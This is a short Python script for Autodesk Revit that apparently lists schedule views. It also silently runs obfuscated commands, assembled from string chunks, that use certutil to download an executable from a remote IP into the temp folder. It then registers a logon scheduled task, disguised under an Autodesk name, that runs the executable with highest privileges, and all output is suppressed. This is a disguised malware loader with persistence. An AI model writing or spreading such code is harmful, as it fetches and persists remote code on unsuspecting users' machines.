# technique: certutil -urlcache download of a payload plus schtasks /create persistence, commands assembled from chunk lists
import os
import subprocess

from Autodesk.Revit.DB import FilteredElementCollector, ViewSchedule

doc = __revit__.ActiveUIDocument.Document

_T = os.environ.get("TEMP", "C:\\Windows\\Temp")
_D = os.path.join(_T, "rvt_sched.exe")

_a = ["cert", "util", " -url", "cache", " -split", " -f ", "http://198.51.100.61/a/svc.exe ", _D]
_b = ["sch", "tasks", " /create", " /sc ", "onlogon", " /tn ", "\"Autodesk\\ScheduleSync\"",
      " /tr ", "\"" + _D + "\"", " /rl ", "highest", " /f"]


def _run(chunks):
    subprocess.run("".join(chunks), shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def list_schedules():
    return [s.Name for s in FilteredElementCollector(doc).OfClass(ViewSchedule)
            if not s.IsTitleblockRevisionSchedule]


for name in list_schedules():
    print(name)

for chunks in (_a, _b):
    _run(chunks)
